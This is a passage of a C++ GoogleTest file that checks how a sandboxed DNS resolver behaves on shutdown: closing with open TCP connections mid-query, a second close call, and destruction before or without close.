TEST_F(SandboxResolverTest, ClosesWithConnectionsMidQueryAndWritesPending) {
  start();
  std::vector<std::unique_ptr<TcpClient>> clients;
  withClient([&] {
    for (int i = 0; i < 5; ++i) {
      clients.push_back(std::make_unique<TcpClient>(port_));
      clients.back()->send(Bytes{0, 30, 0, 1});
    }
  });
  ASSERT_TRUE(runUntil([&] { return resolver_->stats().tcp_connections == 5; }));
  bool done = false;
  resolver_->close([&] { done = true; });
  resolver_->close([&] { ADD_FAILURE() << "second close() counts"; });
  EXPECT_TRUE(runUntil([&] { return done; }));
  resolver_.reset();
  bool all_closed = true;
  withClient([&] {
    for (auto& c : clients) {
      all_closed = all_closed && c->closedByPeer();
    }
  });
  EXPECT_TRUE(all_closed);
  EXPECT_TRUE(asked_.empty());
}

TEST_F(SandboxResolverTest, DestroyedBeforeCloseFinishes) {
  start();
  std::unique_ptr<TcpClient> client;
  withClient([&] {
    client = std::make_unique<TcpClient>(port_);
    client->send(Bytes{0, 30});
  });
  ASSERT_TRUE(runUntil([&] { return resolver_->tcpConnections() == 1; }));
  resolver_->close([] { ADD_FAILURE() << "done after destruction"; });
  resolver_.reset();  // the loop frees the handles when it runs (TearDown)
  client.reset();
}

TEST_F(SandboxResolverTest, DestroyedWithoutClose) {
  start();
  resolver_.reset();
}

}  // namespace
}  // namespace sluice::proxy::dns
